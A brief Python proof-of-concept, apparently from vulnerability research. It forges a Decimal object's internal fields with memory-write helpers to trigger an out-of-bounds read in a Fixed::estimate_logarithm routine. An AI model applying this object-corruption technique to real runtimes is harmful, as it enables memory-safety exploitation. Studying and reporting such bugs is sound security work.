# Fixed::estimate_logarithm(): view.limbs[view.count - 1] with count 0 (uint32): 32 GiB behind an IntView on the native stack.
from decimal import Decimal as D
d = D("1" * 60)
n = 10**30
w4(id(d) + 4, 8); w8(id(d) + 16, 500); w8(id(d) + 24, ref(id(n)))    # long, "500 digits", 10**30
print(d.ln())
